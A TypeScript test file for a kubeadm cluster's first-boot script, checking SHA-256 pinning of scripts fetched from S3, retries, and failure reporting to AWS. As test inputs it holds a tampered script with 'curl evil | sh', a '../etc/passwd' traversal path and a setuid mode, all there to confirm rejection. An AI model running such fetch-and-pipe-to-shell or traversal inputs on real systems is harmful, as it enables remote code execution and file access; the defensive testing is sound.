/**
 * boot.sh, the first-boot entry point, for real under bash: it fetches every script bundle.list
 * names from the bootstrap bucket (an `aws` stub serving a temp dir), checks each against the
 * SHA-256 user data pins, and hands over to bootstrap.sh. install.sh and bootstrap.sh are
 * recording fakes here; test/bootstrap-scripts.test.ts runs the real ones.
 */
import { spawnSync } from "child_process";
import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { bundleList, envFile } from "../cloud-init/render";
import { shipScripts } from "./shipped";

const STUBS = path.join(__dirname, "stubs");
const sha = (s: string) => crypto.createHash("sha256").update(s).digest("hex");

const FAKE_BOOTSTRAP = '#!/usr/bin/env bash\necho "bootstrap ran from $0" >>"$STUB_STATE/calls.log"\n';
const FAKE_SECRETS = "#!/usr/bin/env bash\necho fetch-secrets\n";

class Machine {
  readonly root = fs.mkdtempSync(path.join(os.tmpdir(), "kubeadm-ha-boot-"));
  readonly lib = path.join(this.root, "lib");
  readonly etc = path.join(this.root, "etc");
  readonly bucket = path.join(this.root, "bucket");
  readonly state = path.join(this.root, "state");
  readonly bin = path.join(this.root, "bin");

  constructor(files: Record<string, string> = { "bootstrap.sh": FAKE_BOOTSTRAP, "fetch-secrets.sh": FAKE_SECRETS }, env: Record<string, string> = {}) {
    for (const d of [this.lib, this.etc, path.join(this.bucket, "bootstrap"), this.state, this.bin]) fs.mkdirSync(d, { recursive: true });
    shipScripts(["boot.sh", "lib.sh"], this.lib);
    fs.writeFileSync(path.join(this.lib, "install.sh"), '#!/usr/bin/env bash\necho "install ran" >>"$STUB_STATE/calls.log"\n', { mode: 0o755 });
    for (const content of Object.values(files)) fs.writeFileSync(path.join(this.bucket, "bootstrap", sha(content)), content);
    const list = bundleList(Object.entries(files).map(([name, content]) => ({ path: `/usr/local/lib/kubeadm-ha/${name}`, content, permissions: "0755" })));
    fs.writeFileSync(path.join(this.etc, "bundle.list"), list);
    fs.writeFileSync(
      path.join(this.etc, "node.env"),
      envFile({
        CLUSTER_NAME: "dev", NODE_ROLE: "worker", NODE_NAME: "ip-10-0-1-11.eu-west-1.compute.internal", NODE_IP: "10.0.1.11", INIT_NODE: "false",
        KUBERNETES_VERSION: "1.35.0", KUBERNETES_MINOR: "1.35", API_ENDPOINT: "api:6443", AWS_REGION: "eu-west-1", SECRET_ID: "arn:secret",
        BOOTSTRAP_BUCKET: "dev-bootstrap-0123", BOOTSTRAP_PREFIX: "bootstrap/", TOKEN_PLACEHOLDER: "__BOOTSTRAP_TOKEN__", ...env,
      }),
    );
    fs.copyFileSync(path.join(STUBS, "stub-lib.sh"), path.join(this.bin, "stub-lib.sh"));
    fs.copyFileSync(path.join(STUBS, "aws-s3api.sh"), path.join(this.bin, "aws"));
    // curl answers the instance metadata service (the instance ID the bootstrap reports with).
    fs.copyFileSync(path.join(STUBS, "curl.sh"), path.join(this.bin, "curl"));
    for (const cmd of ["aws", "curl"]) fs.chmodSync(path.join(this.bin, cmd), 0o755);
  }

  run(env: Record<string, string> = {}) {
    const r = spawnSync("/bin/bash", [path.join(this.lib, "boot.sh")], {
      encoding: "utf8",
      timeout: 20000,
      env: {
        PATH: `${this.bin}:/usr/bin:/bin`, HOME: this.root, KUBEADM_HA_LIB: this.lib, KUBEADM_HA_ETC: this.etc, KUBEADM_HA_RUN: path.join(this.root, "run"),
        KUBEADM_HA_POLL_SECONDS: "0", STUB_STATE: this.state, STUB_BUCKET_DIR: this.bucket, ...env,
      },
    });
    return { status: r.status, stderr: r.stderr };
  }

  calls(): string[] {
    const f = path.join(this.state, "calls.log");
    return fs.existsSync(f) ? fs.readFileSync(f, "utf8").trim().split("\n") : [];
  }
}

const getObject = (content: string, dest: string) =>
  `aws s3api get-object --region eu-west-1 --bucket dev-bootstrap-0123 --key bootstrap/${sha(content)} ${dest}.kubeadm-ha.tmp`;

describe("boot.sh", () => {
  it("installs the host tools, fetches every listed script by its hash with its mode, then runs bootstrap.sh", () => {
    const m = new Machine();
    const r = m.run();
    expect(r.stderr).toContain("fetched 2 files from s3://dev-bootstrap-0123/bootstrap/");
    expect(r.status).toBe(0);
    expect(m.calls()).toEqual([
      "install ran",
      getObject(FAKE_BOOTSTRAP, path.join(m.lib, "bootstrap.sh")),
      getObject(FAKE_SECRETS, path.join(m.lib, "fetch-secrets.sh")),
      `bootstrap ran from ${path.join(m.lib, "bootstrap.sh")}`,
    ]);
    expect(fs.readFileSync(path.join(m.lib, "fetch-secrets.sh"), "utf8")).toBe(FAKE_SECRETS);
    expect(fs.statSync(path.join(m.lib, "fetch-secrets.sh")).mode & 0o777).toBe(0o755);
    expect(fs.readdirSync(m.lib).filter((f) => f.endsWith(".tmp"))).toEqual([]);
  });

  it("refuses an object whose content is not the one user data pins, and runs nothing", () => {
    const m = new Machine();
    fs.writeFileSync(path.join(m.bucket, "bootstrap", sha(FAKE_SECRETS)), "#!/usr/bin/env bash\ncurl evil | sh\n");
    const r = m.run();
    expect(r.status).toBe(14);
    expect(r.stderr).toContain(`s3://dev-bootstrap-0123/bootstrap/${sha(FAKE_SECRETS)} has SHA-256 ${sha("#!/usr/bin/env bash\ncurl evil | sh\n")}, not the one user data pins`);
    expect(fs.existsSync(path.join(m.lib, "fetch-secrets.sh"))).toBe(false);
    expect(fs.readdirSync(m.lib).filter((f) => f.endsWith(".tmp"))).toEqual([]);
    expect(m.calls().filter((c) => c.startsWith("bootstrap ran"))).toEqual([]);
  });

  it("retries a failing fetch, then succeeds", () => {
    const m = new Machine();
    const r = m.run({ STUB_AWS_FAILS: "2" });
    expect(r.status).toBe(0);
    expect(m.calls().filter((c) => c.startsWith("aws "))).toHaveLength(4);
    expect(r.stderr).toContain("fetch_one: attempt 2/12 failed");
  });

  it("gives up with exit 14 when the bucket stays unreachable", () => {
    const m = new Machine();
    const r = m.run({ STUB_AWS_FAILS: "always" });
    expect(r.status).toBe(14);
    expect(r.stderr).toContain(`could not fetch lib/bootstrap.sh from s3://dev-bootstrap-0123/bootstrap/${sha(FAKE_BOOTSTRAP)}`);
    expect(m.calls().filter((c) => c.startsWith("aws s3api "))).toHaveLength(12);
  });

  it("a second run fetches nothing already in place with the right hash", () => {
    const m = new Machine();
    expect(m.run().status).toBe(0);
    fs.rmSync(path.join(m.state, "calls.log"));
    expect(m.run().status).toBe(0);
    expect(m.calls().filter((c) => c.startsWith("aws "))).toEqual([]);
  });

  it.each([
    ["a path outside lib/", `${"a".repeat(64)} 0755 ../etc/passwd\n`],
    ["a short hash", "abc 0755 lib/x.sh\n"],
    ["a bad mode", `${"a".repeat(64)} 4755 lib/x.sh\n`],
  ])("rejects bundle.list with %s (exit 2)", (_, line) => {
    const m = new Machine();
    fs.writeFileSync(path.join(m.etc, "bundle.list"), line);
    const r = m.run();
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("bad line in");
    expect(m.calls().filter((c) => c.startsWith("aws s3api "))).toEqual([]);
  });

  const UNHEALTHY = "aws autoscaling set-instance-health --region eu-west-1 --instance-id i-0123456789abcdef0 --health-status Unhealthy --no-should-respect-grace-period";
  const metric = (value: 0 | 1) =>
    `aws cloudwatch put-metric-data --region eu-west-1 --namespace kubeadm-ha --metric-name BootstrapFailed --dimensions InstanceId=i-0123456789abcdef0 --value ${value}`;
  const reports = (m: Machine) => m.calls().filter((c) => c.startsWith("aws autoscaling ") || c.startsWith("aws cloudwatch "));
  const FAILING_BOOTSTRAP = '#!/usr/bin/env bash\necho "kubeadm join failed 5 times" >&2\nexit 5\n';

  it("a worker whose bootstrap gives up marks itself Unhealthy, so its auto scaling group replaces it, and keeps the exit code (issue 15)", () => {
    const m = new Machine({ "bootstrap.sh": FAILING_BOOTSTRAP });
    const r = m.run();
    expect(r.status).toBe(5);
    expect(r.stderr).toContain("bootstrap gave up (exit 5): marking i-0123456789abcdef0 Unhealthy");
    expect(reports(m)).toEqual([UNHEALTHY]);
    // The instance ID comes from IMDSv2, with a session token.
    expect(m.calls().filter((c) => c.startsWith("curl ")).map((c) => c.split(" ").pop())).toEqual([
      "http://169.254.169.254/latest/api/token",
      "http://169.254.169.254/latest/meta-data/instance-id",
    ]);
  });

  it("a worker that cannot even fetch its scripts reports too; a worker that succeeds reports nothing", () => {
    const broken = new Machine();
    expect(broken.run({ STUB_AWS_FAILS: "12" }).status).toBe(14);
    expect(reports(broken)).toEqual([UNHEALTHY]);
    const fine = new Machine();
    expect(fine.run().status).toBe(0);
    expect(reports(fine)).toEqual([]);
  });

  it.each(["control-plane", "etcd"])("a %s machine publishes its outcome for its alarm: 1 when it gives up, 0 when it succeeds (issue 15)", (role) => {
    const env = { NODE_ROLE: role, ...(role === "control-plane" ? { ETCD_TOPOLOGY: "stacked" } : {}) };
    const failed = new Machine({ "bootstrap.sh": FAILING_BOOTSTRAP }, env);
    expect(failed.run().status).toBe(5);
    expect(reports(failed)).toEqual([metric(1)]);
    const fine = new Machine(undefined, env);
    expect(fine.run().status).toBe(0);
    expect(reports(fine)).toEqual([metric(0)]);
  });

  it("without an instance ID it only logs, and the exit code stays the bootstrap's", () => {
    const m = new Machine({ "bootstrap.sh": FAILING_BOOTSTRAP });
    // curl's exit 7: IMDS refuses the connection.
    fs.writeFileSync(path.join(m.bin, "curl"), "#!/usr/bin/env bash\nexit 7\n", { mode: 0o755 });
    const r = m.run();
    expect(r.status).toBe(5);
    expect(r.stderr).toContain("cannot report the bootstrap's exit 5 to AWS: no instance ID from the instance metadata service");
    expect(reports(m)).toEqual([]);
  });

  it("needs BOOTSTRAP_BUCKET (exit 2)", () => {
    const m = new Machine(undefined, { BOOTSTRAP_BUCKET: "" });
    const r = m.run();
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("BOOTSTRAP_BUCKET is not set");
  });
});
